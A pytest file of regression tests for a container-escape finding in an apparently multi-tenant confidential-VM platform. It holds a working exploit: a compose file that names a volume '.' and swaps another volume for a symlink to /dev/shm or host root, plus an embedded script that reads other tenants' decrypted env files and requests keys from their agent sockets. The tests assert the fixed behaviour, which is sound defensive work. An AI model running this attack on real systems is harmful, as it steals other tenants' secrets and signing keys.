"""Reproducers for the working attack found in the review of the F9/F10 fix (see /work/attack-report.md).

FINDING 1 (high): a tenant's compose file that passes the compose allowlist declares a named volume called
"." — the Compose Specification's name pattern allows it — which teecloud maps to `<mount>/volumes/.`, i.e. the
directory that holds every named volume's backing directory. A service mounting it replaces the directory of
another named volume (`data`) with a symlink to a host path; when a service using `data` (re)starts
(`restart: on-failure`, or simply a later `depends_on` start), dockerd mounts the volume from its device path
ON THE HOST and follows the symlink. With `/dev/shm` as the target the app reads every other CVM's decrypted
env file and talks to every other CVM's guest agent socket (GetKey, GetTlsKey, Sign in the victim's name);
with `/` it gets the host's root filesystem, writable (root in the container, no user namespace).

These tests assert the SECURE behaviour: they fail while the finding is open and pass once it is fixed.
"""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from teecloud.node.compose import load_compose
from teecloud.node.errors import ComposeRejected
from teecloud.node.runtime.base import ComposeSpec, ResourceLimits
from teecloud.node.runtime.docker import make_override

DOT_VOLUME = """
services:
  a:
    image: x
    volumes:
      - {type: volume, source: ".", target: /vols}
  b:
    image: x
    volumes:
      - data:/data
volumes:
  ".": {}
  data: {}
"""


def test_finding1_a_volume_named_dot_is_refused_by_the_compose_policy() -> None:
    """The enabling bug, without Docker: "." passes the policy and maps onto the parent of `data`'s
    device path."""
    try:
        compose = load_compose(DOT_VOLUME)
    except ComposeRejected:
        return  # fixed
    spec = ComposeSpec(
        project="tc-x", workdir=Path("/w"), agent_dir=Path("/a"), volume_root=Path("/mnt"), env_dir=None
    )
    override, dirs = make_override(compose, spec, images={}, limits=ResourceLimits(), busybox=None)
    dot = Path(override["volumes"]["."]["driver_opts"]["device"]).resolve()
    data = Path(override["volumes"]["data"]["driver_opts"]["device"]).resolve()
    pytest.fail(
        f"volume '.' is accepted and its device {dot} is the parent of volume 'data''s device {data}: the app "
        "can replace that directory with a symlink that dockerd follows on the host at the next mount"
    )


# ----------------------------------------------------------------------------------- end to end (Docker)

from tests.e2e.conftest import cloud, hello_image, session, wait_serving  # noqa: E402,F401

ROOT = Path(__file__).resolve().parents[2]
MARK = "teecloud-attack-finding-1"

STEAL = r"""
import glob, json, socket
def call(sock, path, body):
    s = socket.socket(socket.AF_UNIX); s.settimeout(10); s.connect(sock)
    data = json.dumps(body).encode()
    s.sendall(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              b"Content-Length: " + str(len(data)).encode() + b"\r\nConnection: close\r\n\r\n" + data)
    out = b""
    while True:
        c = s.recv(65536)
        if not c: break
        out += c
    return out.split(b"\r\n\r\n", 1)[-1].decode(errors="replace")
for env in glob.glob("/data/teecloud-*/*/env/env.sh"):
    print("ENVFILE", open(env).read().strip(), flush=True)
for sock in glob.glob("/data/teecloud-*/*/agent/dstack.sock"):
    try:
        info = json.loads(call(sock, "/Info", {}))
        key = json.loads(call(sock, "/GetKey", {"path": "hello", "purpose": "demo"}))["key"]
        print("AGENT", info["app_id"], key, flush=True)
    except Exception as exc:
        print("AGENT-ERR", sock, exc, flush=True)
"""


def _attacker_compose(tmp: Path) -> Path:
    doc = {
        "services": {
            "a": {
                "image": "teecloud/hello:0.1",
                "entrypoint": [
                    "sh",
                    "-c",
                    "sleep 2; mv /vols/data /vols/data.orig && ln -s /dev/shm /vols/data; sleep 100000",
                ],
                "volumes": [{"type": "volume", "source": ".", "target": "/vols"}],
            },
            "b": {
                "image": "teecloud/hello:0.1",
                "entrypoint": [
                    "sh",
                    "-c",
                    'if ls -d /data/teecloud-* >/dev/null 2>&1; then echo ESCAPED; python3 -c "$$STEAL"; '
                    "sleep 100000; else sleep 8; exit 1; fi",
                ],
                "environment": {"STEAL": STEAL.replace("$", "$$")},
                "restart": "on-failure",
                "volumes": ["data:/data"],
            },
        },
        "volumes": {".": {}, "data": {}},
    }
    p = tmp / "attacker" / "docker-compose.yml"
    p.parent.mkdir()
    p.write_text(json.dumps(doc))  # JSON is YAML
    return p


def _logs(project: str, service: str) -> str:
    ids = subprocess.run(
        ["docker", "ps", "-aq", "--filter", f"label=com.docker.compose.project={project}",
         "--filter", f"label=com.docker.compose.service={service}"],
        capture_output=True, text=True,
    ).stdout.split()
    return "".join(
        subprocess.run(["docker", "logs", i], capture_output=True, text=True).stdout for i in ids
    )


def test_finding1_a_tenant_cannot_read_another_cvms_env_or_use_its_agent(
    session: Any, cloud: Any, tmp_path: Path
) -> None:
    from teecloud.cloud.deploy import deploy
    from teecloud.node.runtime.docker import project_name

    victim = deploy(
        session,
        ROOT / "examples" / "hello" / "docker-compose.yml",
        name="victim",
        env={"SECRET": MARK},
        allowed_envs=["SECRET"],
    )
    assert victim.status == "running", victim.error
    served = wait_serving(victim.urls[0] + "/").json()
    try:
        attacker = deploy(session, _attacker_compose(tmp_path), name="tenant")
    except Exception as exc:  # refused by the compose policy: fixed
        assert "volume" in str(exc).lower(), exc
        return
    if attacker.status != "running":
        return  # refused at boot: fixed
    project = project_name(attacker.instance_id)
    out = ""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and "AGENT" not in out:
        time.sleep(2)
        out = _logs(project, "b")
    assert MARK not in out, f"the tenant read the victim's decrypted env:\n{out[:2000]}"
    assert served["key"] not in out, f"the tenant got the victim's GetKey key through its agent:\n{out[:2000]}"
